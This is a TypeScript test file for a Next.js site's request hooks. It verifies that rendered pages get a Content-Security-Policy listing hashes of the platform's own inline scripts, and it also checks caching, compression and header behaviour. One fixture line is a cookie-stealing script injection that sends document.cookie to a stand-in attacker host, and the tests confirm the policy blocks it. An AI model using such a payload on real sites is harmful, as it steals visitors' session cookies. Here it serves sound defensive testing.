import { createHash } from 'node:crypto';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import zlib from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { installRequestHooks } from '@/lib/request-hooks';
import { allowCspSources } from '@/lib/request-context';
import { cachePageWhileVersionHolds } from '@/lib/page-cache';
import { LOADER_SOURCE } from '@/lib/deferred-scripts';

/**
 * Decision 040 through the request hooks as `next start` runs them: a rendered page's
 * Content-Security-Policy names the hashes of the platform's inline scripts in the page as served
 * (the deferred-scripts loader included), never 'unsafe-inline', not an injected script; the page
 * cache replays the header with its page; other responses allow no inline script.
 */

const FLIGHT = 'self.__next_f.push([1,"0:{\\"P\\":null,\\"name\\":\\"Škoda — Ōtaki \\u003c3\\"}\\n"])';
const INJECTED = 'fetch("https://evil.example/?c="+document.cookie)';
const PAGE =
  '<!DOCTYPE html><html lang="en"><head><meta charSet="utf-8"/>' +
  '<script src="/_next/static/chunks/main.js" async=""></script><title>Cars</title></head><body>' +
  `<div class="site-prose"><p>Dealer text</p><script>${INJECTED}</script></div>` +
  '<script type="application/ld+json">{"@type":"Car"}</script>' +
  `<script>(self.__next_f=self.__next_f||[]).push([0])</script><script>${FLIGHT}</script></body></html>`;

const hash = (source: string) => `'sha256-${createHash('sha256').update(source, 'utf8').digest('base64')}'`;
const scriptSrc = (csp: string) => csp.split('; ').find((directive) => directive.startsWith('script-src ')) ?? '';

/** Every executable inline script of the page as served. */
function inlineScripts(html: string): string[] {
  return [...html.matchAll(/<script(?![^>]*\bsrc=)(?![^>]*type="application\/(?:ld\+)?json")[^>]*>([\s\S]*?)<\/script>/g)].map((match) => match[1]);
}

let server: http.Server;
let port: number;
/** The Accept-Encoding each request reached the page with, by path. */
const encodingSeen = new Map<string, string | undefined>();

beforeAll(async () => {
  installRequestHooks({ pageCache: { maxBytes: 4 << 20, maxEntryBytes: 1 << 20, maxAgeMs: 60_000 }, trustedProxyHops: 0, development: false });
  server = http.createServer((request, response) => {
    void (async () => {
      if (request.url?.startsWith('/_next/static/')) {
        // As Next's static serving answers: the file, or its 404 page.
        const found = request.url === '/_next/static/chunks/a.js';
        if (request.url.endsWith('/')) return response.writeHead(308, { Location: request.url.slice(0, -1) }).end();
        response.statusCode = found ? 200 : 404;
        response.setHeader('Content-Type', found ? 'application/javascript; charset=UTF-8' : 'text/html; charset=utf-8');
        return response.end(found ? 'self.a=1' : '<!DOCTYPE html><title>404</title>');
      }
      if (request.url?.startsWith('/api/')) {
        response.setHeader('Content-Type', 'application/json');
        return response.end('{"ok":true}');
      }
      encodingSeen.set(request.url ?? '', request.headers['accept-encoding']);
      // A visitor's own page (a checkout) is not kept in the page cache; every other page here is.
      if (!request.url?.startsWith('/checkout')) await cachePageWhileVersionHolds(async () => 'v1');
      allowCspSources({ script: ['https://connect.podium.com'] });
      response.setHeader('Content-Type', request.headers.rsc ? 'text/x-component' : 'text/html; charset=utf-8');
      const body = request.headers.rsc ? Buffer.from('0:{}') : Buffer.from(PAGE);
      // Written in pieces, compressed when asked, as Next's compression does.
      if (!request.headers.rsc && /gzip/.test(String(request.headers['accept-encoding']))) {
        response.setHeader('Content-Encoding', 'gzip');
        const gzipped = zlib.gzipSync(body);
        response.write(gzipped.subarray(0, 20));
        setImmediate(() => response.end(gzipped.subarray(20)));
      } else {
        response.write(body.subarray(0, 150));
        setImmediate(() => response.end(body.subarray(150)));
      }
    })();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as AddressInfo).port;
});
afterAll(() => new Promise<void>((resolve) => server.close(() => resolve())));

const get = (path: string, headers: Record<string, string> = {}, method = 'GET') =>
  fetch(`http://127.0.0.1:${port}${path}`, { method, headers: { host: 'csp.localhost', ...headers } });

describe('the Content-Security-Policy of rendered pages', () => {
  it.each(['identity', 'gzip'])('names the hash of every platform inline script the page has as served (%s), and not the injected one', async (encoding) => {
    const response = await get(`/cars?encoding=${encoding}`, { 'accept-encoding': encoding });
    const html = await response.text();
    const policy = scriptSrc(response.headers.get('content-security-policy') ?? '');
    expect(policy).not.toContain('unsafe-inline');
    expect(policy).toContain('https://connect.podium.com');
    // The loader was added by the rewrite; the async chunk became a template.
    expect(html).toContain(LOADER_SOURCE);
    const scripts = inlineScripts(html);
    expect(scripts).toHaveLength(4);
    for (const source of scripts.filter((source) => source !== INJECTED)) expect(policy).toContain(hash(source));
    expect(policy).not.toContain(hash(INJECTED));
    if (encoding === 'identity') expect(response.headers.get('content-length')).toBe(String(Buffer.byteLength(html)));
  });

  it('keeps the header with the page in the page cache', async () => {
    const first = await get('/search', { 'accept-encoding': 'gzip' });
    const firstBody = await first.text();
    const again = await get('/search', { 'accept-encoding': 'gzip' });
    expect(first.headers.get('x-page-cache')).toBe('miss');
    expect(again.headers.get('x-page-cache')).toBe('hit');
    expect(again.headers.get('content-security-policy')).toBe(first.headers.get('content-security-policy'));
    expect(await again.text()).toBe(firstBody);
  });

  it('compresses a page a browser navigates to once, after the rewrite, instead of unpacking what Next compressed', async () => {
    const navigation = { accept: 'text/html,application/xhtml+xml,*/*;q=0.8', 'accept-encoding': 'gzip, deflate, br' };
    const response = await get('/used-cars', navigation);
    // The page was asked for plain, and arrives gzip (fetch unpacks it) with the loader in it.
    expect(encodingSeen.get('/used-cars')).toBeUndefined();
    expect(response.headers.get('content-encoding')).toBe('gzip');
    expect(response.headers.get('vary')).toMatch(/Accept-Encoding/i);
    const html = await response.text();
    expect(html).toContain(LOADER_SOURCE);
    const policy = scriptSrc(response.headers.get('content-security-policy') ?? '');
    for (const source of inlineScripts(html).filter((source) => source !== INJECTED)) expect(policy).toContain(hash(source));
    // The page cache keeps the compressed page for that Accept-Encoding, with its header.
    const again = await get('/used-cars', navigation);
    expect(again.headers.get('x-page-cache')).toBe('hit');
    expect(again.headers.get('content-encoding')).toBe('gzip');
    expect(await again.text()).toBe(html);
    // No gzip accepted: plain. A file, or a request that is not a navigation: as Next sends it.
    const refused = await get('/used-cars?refused', { accept: 'text/html', 'accept-encoding': 'identity' });
    expect(refused.headers.get('content-encoding')).toBeNull();
    expect(await refused.text()).toContain(LOADER_SOURCE);
    await get('/feed.xml', { accept: 'text/html', 'accept-encoding': 'gzip' });
    expect(encodingSeen.get('/feed.xml')).toBe('gzip');
    await get('/used-cars?fetch', { accept: '*/*', 'accept-encoding': 'gzip' });
    expect(encodingSeen.get('/used-cars?fetch')).toBe('gzip');
  });

  it('sends a page the same for every visitor without an opener policy, from the cache too, and keeps it on a visitor\'s own page and on other answers (decision 074)', async () => {
    const opener = (response: Response) => response.headers.get('cross-origin-opener-policy');
    const first = await get('/stock?opener');
    const again = await get('/stock?opener');
    expect(again.headers.get('x-page-cache')).toBe('hit');
    expect([opener(first), opener(again)]).toEqual([null, null]);
    const own = await get('/checkout/1');
    expect(own.headers.get('x-page-cache')).toBe('miss');
    expect(opener(own)).toBe('same-origin');
    expect(opener(await get('/api/x'))).toBe('same-origin');
    expect(opener(await get('/_next/static/chunks/gone.js'))).toBe('same-origin');
  });

  it('answers HEAD with the header of the page (Node drops the body the page wrote)', async () => {
    const head = await get('/cars?head', {}, 'HEAD');
    expect(await head.text()).toBe('');
    const page = await get('/cars?head');
    expect(head.headers.get('content-security-policy')).toBe(page.headers.get('content-security-policy'));
    expect(scriptSrc(head.headers.get('content-security-policy') ?? '')).toContain(hash(FLIGHT));
  });

  it('allows no inline script where no page was rendered: RSC answers (client navigations), API answers', async () => {
    const rsc = await get('/cars', { rsc: '1' });
    expect(await rsc.text()).toBe('0:{}');
    const api = await get('/api/x');
    for (const response of [rsc, api]) {
      const policy = scriptSrc(response.headers.get('content-security-policy') ?? '');
      expect(policy).toMatch(/^script-src 'self' /);
      expect(policy).not.toMatch(/sha256-|unsafe-inline/);
    }
  });

  it("keeps only nosniff and HSTS on the build's files; an answer there that is not a file keeps every document header (decision 028)", async () => {
    const file = await get('/_next/static/chunks/a.js');
    expect(await file.text()).toBe('self.a=1');
    expect(file.headers.get('x-content-type-options')).toBe('nosniff');
    for (const name of ['content-security-policy', 'x-frame-options', 'referrer-policy', 'permissions-policy']) expect(file.headers.get(name)).toBeNull();
    for (const path of ['/_next/static/%ff', '/_next/static/chunks/gone.js', '/_next/static/..;/']) {
      const missing = await get(path);
      expect(missing.status).not.toBe(200);
      for (const name of ['content-security-policy', 'x-frame-options', 'referrer-policy', 'permissions-policy', 'x-content-type-options']) {
        expect(missing.headers.get(name), `${path} ${name}`).not.toBeNull();
      }
    }
  });
});
